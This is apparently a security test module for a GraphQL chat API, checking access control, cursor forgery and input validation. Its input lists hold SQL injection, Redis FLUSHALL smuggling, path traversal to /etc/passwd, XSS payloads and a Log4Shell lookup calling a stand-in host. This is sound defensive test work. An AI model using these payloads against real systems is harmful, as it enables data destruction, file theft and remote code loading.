"""Reading, changing and guessing what belongs to others; arguments that mean nothing or something else."""

from typing import Any

from tests.attacks.attack import TAKEN, Attack, post

_INPUT, _CURSOR, _MISSING = "BAD_USER_INPUT", "INVALID_CURSOR", "NOT_FOUND"
_MESSAGES = (
    "query($c: ID!, $a: String, $n: Int, $l: Int) { messages(channelId: $c, after: $a, first: $n, last: $l) { nodes { content } } }"
)
_SEND = "mutation($i: SendMessageInput!) { sendMessage(input: $i) { message { id } userErrors { code } } }"
_SYNC = "query($t: String, $w: Int, $l: Int) { sync(token: $t, waitMs: $w, limit: $l) { resetReason channels { channel { id } messages { content } } } }"
_READ = "mutation($c: ID!, $p: String!) { markChannelRead(channelId: $c, cursor: $p) { channel { id } userErrors { code } } }"
_NOTIFY = "mutation($i: CreateNotificationInput!) { createNotification(input: $i) { userErrors { code } } }"
_EDIT = "mutation($i: EditMessageInput!) { editMessage(input: $i) { userErrors { code } } }"
_DELETE = "mutation($i: ID!) { deleteMessage(messageId: $i) { userErrors { code } } }"
_REACT = "mutation($i: ReactionInput!) { addReaction(input: $i) { userErrors { code } } }"
_JOIN = "mutation($c: ID!) { joinChannel(channelId: $c) { userErrors { code } } }"
_UPDATE = "mutation($i: UpdateChannelInput!) { updateChannel(input: $i) { userErrors { code } } }"
_ROLE = "mutation($c: ID!, $u: ID!) { setChannelMemberRole(channelId: $c, userId: $u, role: OWNER) { userErrors { code } } }"
_REMOVE = "mutation($c: ID!, $u: ID!) { removeChannelMember(channelId: $c, userId: $u) { userErrors { code } } }"
_ADD = "mutation($c: ID!, $u: [ID!]!) { addChannelMembers(channelId: $c, userIds: $u) { userErrors { code } } }"
_LEAVE = "mutation($c: ID!) { leaveChannel(channelId: $c) { userErrors { code } } }"
_CREATE = "mutation($i: CreateChannelInput!) { createChannel(input: $i) { channel { id } userErrors { code } } }"


def _partial(name: str, row: int, query: str, code: str | None, shows: bytes = b"", **variables: Any) -> Attack:
    return Attack(name, (row,), post(query, **variables), 200 if code is None else 294, code, cheap=True, shows=shows)


def _told(name: str, row: int, query: str, code: str, **variables: Any) -> Attack:
    """Return an attack that is answered with userErrors."""
    return Attack(name, (row,), post(query, **variables), 200, code)


def _sending(name: str, row: int, code: str | None, **given: Any) -> Attack:
    return Attack(
        name, (row,), post(_SEND, i={"channelId": "<open>", "content": "x", **given}), 200 if code in _TOLD else 294, code
    )


_TOLD = ("BLANK", "TOO_LONG", "ARCHIVED", "NOT_A_MEMBER", "INVALID", "CONFLICT", None)
_NULL = b'"data":{"#":null}'


def _null(field: str) -> bytes:
    return _NULL.replace(b"#", field.encode())


HIDDEN = [
    _partial("messages of a hidden channel", 20, _MESSAGES, _MISSING, _null("messages"), c="<hidden>"),
    _partial("messages of no channel", 20, _MESSAGES, _INPUT, _null("messages"), c="<open_message>"),
    _partial("a hidden channel", 20, "query($c: ID!) { channel(id: $c) { name } }", None, _null("channel"), c="<hidden>"),
    _partial("a hidden channel as a node", 20, "query($c: ID!) { node(id: $c) { id } }", None, _null("node"), c="<hidden>"),
    _partial("a hidden message as a node", 20, "query($c: ID!) { node(id: $c) { id } }", None, _null("node"), c="<hidden_message>"),
    _partial("hidden among nodes", 20, "query($c: [ID!]!) { nodes(ids: $c) { id } }", None, b"[null,null]", c=["<hidden>", "<hidden_message>"]),
    _partial("hidden by searching", 20, '{ searchChannels(text: "members-alone") { nodes { name } } }', None, b'"nodes":[]'),
    _partial("when to ask of a hidden channel", 20, "query($c: ID!) { pollingInterval(channelId: $c) { milliseconds } }", _MISSING, c="<hidden>"),
    _partial("sync of a hidden channel", 20, "query($c: [ID!]) { sync(channelIds: $c) { channels { channel { id } } } }", None, b'"channels":[]', c=["<hidden>"]),
    _partial("a lost channel by its old cursor", 21, _MESSAGES, _MISSING, c="<lost>", a="<lost_cursor>"),
    _partial("a lost channel", 21, "query($c: ID!) { channel(id: $c) { name } }", None, _null("channel"), c="<lost>"),
    _partial("a lost channel from its start", 21, _MESSAGES, _MISSING, c="<lost>", n=1),
    _partial("the very question of a member", 25, "query($c: ID!) { messages(channelId: $c, last: 5) { nodes { content } } }", _MISSING, c="<hidden>"),
    _partial("another's name for the viewer", 25, "{ viewer { name } }", None, b'"Mallory"'),
]  # fmt: skip

CURSORS = [
    _partial("a cursor of another channel", 22, _MESSAGES, _CURSOR, c="<open>", a="<hidden_cursor>"),
    _partial("an edited cursor", 22, _MESSAGES, _CURSOR, c="<open>", a="<open_cursor>A"),
    _partial("a cursor with its first sign changed", 22, _MESSAGES, _CURSOR, c="<open>", a="!<open_cursor>"),
    *(
        _partial(f"a forged cursor: {cursor[:20]!r}", 22, _MESSAGES, _CURSOR, c="<open>", a=cursor)
        for cursor in ("", "0", "-1", "9" * 50, "AAAA", "bQ" + "A" * 26, "x" * 10_000, "' OR 1=1 --", "\u202e", "é" * 28, "====", "bQF3\n")
    ),
    _partial("a channel's cursor for notifications", 22, "query($a: String) { notifications(after: $a, first: 5) { nodes { id } } }", _CURSOR, a="<open_cursor>"),
    _partial("a cursor with NUL", 12, _MESSAGES, _CURSOR, c="<open>", a="a\x00b"),
    _partial("a sync token of another", 23, _SYNC, None, b'"resetReason":"', t="<bobs_sync>"),
    *(
        _partial(f"a forged sync token: {given[:20]!r}", 23, _SYNC, None, b'"resetReason":"', t=given)
        for given in ("x", "<bobs_sync>A", "A" * 5000, "' OR 1=1 --", "é")
    ),
    _partial("waiting below nothing", 24, _SYNC, _INPUT, w=-1),
    _partial("waiting for an hour for what is there", 24, _SYNC, None, w=3_600_000),
    _partial("a page of -1", 24, _MESSAGES, _INPUT, c="<open>", n=-1),
    _partial("a page of 0", 24, _MESSAGES, _INPUT, c="<open>", n=0),
    _partial("a page of 10^9", 24, _MESSAGES, None, b'"nodes":[', c="<open>", n=10**9),
    _partial("a page of null", 24, _MESSAGES, None, b'"nodes":[', c="<open>", n=None),
    _partial("a page of both ends", 24, _MESSAGES, _INPUT, c="<open>", n=5, l=5),
    *(
        Attack(f"a page of {name}", (11,), post(_MESSAGES, c="<open>", n=number), status, code, cheap=True)
        for name, number, status, code in (
            ("2^31", 2**31, 422, _INPUT), ("-2^31 - 1", -(2**31) - 1, 422, _INPUT), ("1.5", 1.5, 422, _INPUT), ("a text", "5", 422, _INPUT),
            ("infinity", float("inf"), 422, _INPUT), ("not a number", float("nan"), 422, _INPUT), ("an object", {}, 422, _INPUT), ("true", True, 422, _INPUT),
        )
    ),
    Attack("a page of 2^31 in the document", (11,), post("{ channels(first: 2147483648) { nodes { id } } }"), 422, "GRAPHQL_VALIDATION_FAILED", cheap=True),
]  # fmt: skip

CHANGES = [
    _told("editing another's message", 26, _EDIT, "NOT_THE_AUTHOR", i={"messageId": "<open_message>", "content": "x"}),
    _told("deleting another's message", 26, _DELETE, "NOT_THE_AUTHOR", i="<open_message>"),
    _partial("editing a hidden message", 26, _EDIT, _MISSING, i={"messageId": "<hidden_message>", "content": "x"}),
    _partial("deleting a hidden message", 26, _DELETE, _MISSING, i="<hidden_message>"),
    _partial("answering a hidden message with an emoji", 26, _REACT, _MISSING, i={"messageId": "<hidden_message>", "emoji": "👍"}),
    _partial("sending to a hidden channel", 26, _SEND, _MISSING, i={"channelId": "<hidden>", "content": "x"}),
    _partial("sending to a lost channel", 21, _SEND, _MISSING, i={"channelId": "<lost>", "content": "x"}),
    _partial("joining a hidden channel", 26, _JOIN, _MISSING, c="<hidden>"),
    _partial("renaming a hidden channel", 26, _UPDATE, _MISSING, i={"channelId": "<hidden>", "name": "mine"}),
    _partial("reading a hidden channel", 26, _READ, _MISSING, c="<hidden>", p="<hidden_cursor>"),
    _told("renaming another's channel", 26, _UPDATE, "NOT_ALLOWED", i={"channelId": "<open>", "name": "mine"}),
    _told("archiving another's channel", 26, _UPDATE, "NOT_ALLOWED", i={"channelId": "<open>", "archived": True}),
    _told("promoting oneself", 26, _ROLE, "NOT_ALLOWED", c="<open>", u="<mallory>"),
    _told("removing the owner", 26, _REMOVE, "NOT_ALLOWED", c="<open>", u="<bob>"),
    _told("bringing a friend", 26, _ADD, "NOT_ALLOWED", c="<open>", u=["<mallory>"]),
    _partial("bringing oneself to a hidden channel", 26, _ADD, _MISSING, c="<hidden>", u=["<mallory>"]),
    _partial("leaving a channel never joined", 26, _LEAVE, _MISSING, c="<hidden>"),
    _told("reading a channel not joined", 26, _READ, "NOT_A_MEMBER", c="<public>", p="<public_cursor>"),
    _sending("to a channel not joined", 26, "NOT_A_MEMBER", channelId="<public>"),
    _told("leaving as the last owner", 26, _LEAVE, "LAST_OWNER", c="<own>"),
    _told("removing the last owner", 26, _REMOVE, "LAST_OWNER", c="<own>", u="<mallory>"),
    _told("renaming a channel not joined", 26, _UPDATE, "NOT_A_MEMBER", i={"channelId": "<public>", "name": "mine"}),
    _sending("other words under a key", 28, "CONFLICT", clientMessageId=TAKEN),
    _partial("reading with a cursor of another channel", 27, _READ, _CURSOR, c="<open>", p="<hidden_cursor>"),
    _partial("reading beyond the end", 27, _READ, _CURSOR, c="<open>", p="bQF3" + "z" * 24),
    _partial("notifying without the right", 40, _NOTIFY, "FORBIDDEN", i={"userId": "<bob>", "type": "t", "title": "t", "content": "c"}),
    _partial("notifying with a script", 40, _NOTIFY, "FORBIDDEN", i={"userId": "<bob>", "type": "t", "title": "t", "content": "c", "link": "javascript:alert(1)"}),
    _sending("nothing", 29, "BLANK", content=""),
    _sending("blanks", 29, "BLANK", content=" \t\n\u2003"),
    _sending("4001 characters", 29, "TOO_LONG", content="x" * 4001),
    _sending("4001 characters of two signs each", 29, "TOO_LONG", content="e\u0301" * 4001),
    _sending("one character of 8000 signs", 29, "TOO_LONG", content="a" + "\u0300" * 8000),
    _sending("flags without end", 29, "TOO_LONG", content="\U0001f1e6" * 8002),
    _sending("to an archived channel", 29, "ARCHIVED", channelId="<archived>"),
    _sending("a key of 65 characters", 28, "TOO_LONG", clientMessageId="k" * 65),
    _sending("an empty key", 28, "BLANK", clientMessageId=""),
    _sending("NUL in content", 12, _INPUT, content="a\x00b"),
    _sending("a lone surrogate in content", 12, _INPUT, content="a\ud800b"),
    _sending("NUL in a key", 12, _INPUT, clientMessageId="a\x00b"),
    _sending("a lone surrogate in a key", 12, _INPUT, clientMessageId="\udfff"),
    _sending("NUL in an id", 31, _INPUT, channelId="a\x00b"),
    *(
        _sending(f"an id: {given[:24]!r}", 31, _INPUT, channelId=given)
        for given in ("' OR 1=1 --", "1; DROP TABLE message", "x\r\nFLUSHALL\r\n", "{rate}:*", "pollux:1:*", "*", "../../etc/passwd", "return redis.call('FLUSHALL')", "x" * 10_000, "", "\ud800")
    ),
    *(_sending(f"as it stands: {given[:24]!r}", 30, None, content=given) for given in (
        "<script>alert(1)</script>", "javascript:alert(1)", "<svg onload=alert(1)>", "\u202egnp.exe", "[x](javascript:alert(1))", "a\u0300" * 1999,
        '"><img src=x onerror=alert(1)>', "{{7*7}}", "${jndi:ldap://evil.tld/x}",
    )),
    *(
        Attack(f"a channel named {given[:20]!r} of {len(given)}", (12, 30), post(_CREATE, i={"name": given}), status, code)
        for given, status, code in (("a\x00b", 294, _INPUT), ("\ud800", 294, _INPUT), ("", 200, "BLANK"), (" ", 200, "BLANK"), ("x" * 10_000, 200, "TOO_LONG"))
    ),
    Attack("a search with NUL", (12, 31), post("query($t: String!) { searchChannels(text: $t) { nodes { id } } }", t="a\x00b"), 294, _INPUT),
    Attack("a search that is a pattern", (31,), post("query($t: String!) { searchChannels(text: $t) { nodes { id } } }", t="%" * 100), 200, None, shows=b'"nodes":[]'),
]  # fmt: skip

ATTACKS = [*HIDDEN, *CURSORS, *CHANGES]
